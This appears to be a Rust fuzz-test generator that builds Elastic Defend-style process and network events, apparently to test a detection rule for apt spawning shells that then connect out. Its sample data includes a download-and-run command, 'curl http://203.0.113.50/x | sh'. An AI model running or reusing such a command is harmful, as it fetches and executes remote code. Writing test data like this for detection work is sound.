//! Generated events: Elastic Defend-like events driven by fuzz bytes.

use super::Input;
use serde_json::{json, Map, Value};

/// 2026-03-14T09:30:00Z in ms.
const BASE_MS: i64 = 1_773_480_600_000;

fn rfc3339(ms: i64, frac_digits: usize, offset: &str) -> String {
    let secs = ms.div_euclid(1000);
    let millis = ms.rem_euclid(1000);
    let days = secs.div_euclid(86_400);
    let sod = secs.rem_euclid(86_400);
    // civil from days (Howard Hinnant's algorithm)
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + (m <= 2) as i64;
    let mut s = format!("{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}", sod / 3600, sod / 60 % 60, sod % 60);
    if frac_digits > 0 {
        let f = format!("{millis:03}000000");
        s.push('.');
        s.push_str(&f[..frac_digits.min(9)]);
    }
    s.push_str(offset);
    s
}

/// An `@timestamp` value near `ms`, in one of the forms Elastic Defend and
/// hostile senders write.
fn timestamp(r: &mut Input, ms: i64) -> Value {
    match r.u8() % 12 {
        0..=4 => json!(rfc3339(ms, 3, "Z")),
        5 => json!(rfc3339(ms, 7, "Z")),
        6 => json!(rfc3339(ms + 7_200_000, 0, "+02:00")),
        7 => json!(ms),
        8 => json!(ms.to_string()),
        9 => r.pick(&[json!("garbage"), json!(-1), json!("9999-12-31T23:59:59.999Z"), json!(1e300), json!(null)]),
        10 => json!([rfc3339(ms, 3, "Z"), "x"]),
        _ => Value::Null, // removed below: no @timestamp
    }
}

const ENTITIES: &[&str] = &["E1", "E2", "E3", "YjZjOGUw=="];

/// An Elastic Defend-like event from a few fuzz bytes: an `apt` shell exec,
/// a connection by a child of one, or background noise, with values drawn
/// from small pools (so sequences complete often), including hostile ones.
pub fn gen_event(r: &mut Input) -> Value {
    let kind = r.u8() % 5;
    let host =
        r.pick(&[json!("h1"), json!("h1"), json!("h2"), json!(42), json!(["h1", "h2"]), json!({"x": 1}), json!(null)]);
    let ms = BASE_MS + r.u16() as i64 * 3;
    let mut v = match kind {
        0 | 1 => {
            let name = r.pick(&["sh", "bash", "zsh", "fish", "python"]);
            let parent = r.pick(&["apt", "apt", "apt", "APT", "apt-get"]);
            let args = r.pick(&[
                json!([name, "-c", "curl http://203.0.113.50/x | sh"]),
                json!([name, "-c", "/usr/bin/apt-listbugs apt"]),
                json!("-c"),
                json!([name]),
                json!([]),
            ]);
            json!({
                "event": {"category": ["process"], "type": ["start"], "action": "exec", "id": format!("x{}", r.u8())},
                "host": {"id": host, "name": "deb", "os": {"type": r.pick(&["linux", "linux", "windows"])}},
                "process": {
                    "name": name, "pid": r.u16(), "args": args, "entity_id": r.pick(ENTITIES),
                    "executable": format!("/usr/bin/{name}"),
                    "parent": {"name": parent, "entity_id": "P0", "pid": 1}
                },
                "user": {"name": "root"}
            })
        }
        2 | 3 => {
            let ip = r.pick(&[
                json!("45.33.32.156"),
                json!("45.33.32.156"),
                json!("2a01:4f8:c17:b8f::2"),
                json!("10.0.0.1"),
                json!("0.0.0.0"),
                json!("::ffff:8.8.8.8"),
                json!("fe80::1%eth0"),
                json!("not an ip"),
                json!(["1.1.1.1", "10.0.0.1"]),
                json!(null),
                json!(12345),
            ]);
            json!({
                "event": {
                    "category": ["network"], "type": ["start"],
                    "action": r.pick(&["connection_attempted", "connection_attempted", "connection_accepted"]),
                    "id": format!("n{}", r.u8())
                },
                "host": {"id": host, "os": {"type": "linux"}},
                "process": {
                    "name": "curl", "pid": 7,
                    "executable": r.pick(&["/usr/bin/curl", "/usr/bin/curl", "/usr/bin/apt-listbugs"]),
                    "parent": {"entity_id": r.pick(ENTITIES), "pid": 6}
                },
                "destination": {"ip": ip, "port": 443}
            })
        }
        _ => json!({
            "event": {"category": ["file"], "action": "creation"},
            "host": {"id": host},
            "file": {"path": "/tmp/x"}
        }),
    };
    let ts = timestamp(r, ms);
    if !ts.is_null() {
        v["@timestamp"] = ts;
    }
    match r.u8() % 4 {
        0 => flatten(&v),
        1 => {
            // a duplicate or clashing member up front
            let mut m = Map::new();
            m.insert(r.pick(&["rule", "kibana", "process.args", "apt_netcon", "rule.name"]).into(), json!({"k": "v"}));
            m.extend(v.as_object().cloned().unwrap_or_default());
            Value::Object(m)
        }
        _ => v,
    }
}

/// `{"a":{"b":1}}` → `{"a.b":1}`.
pub fn flatten(v: &Value) -> Value {
    fn walk(prefix: &str, v: &Value, out: &mut Map<String, Value>) {
        match v {
            Value::Object(m) if !m.is_empty() => {
                for (k, x) in m {
                    let p = if prefix.is_empty() { k.clone() } else { format!("{prefix}.{k}") };
                    walk(&p, x, out);
                }
            }
            _ => {
                out.insert(prefix.to_string(), v.clone());
            }
        }
    }
    let mut out = Map::new();
    walk("", v, &mut out);
    Value::Object(out)
}
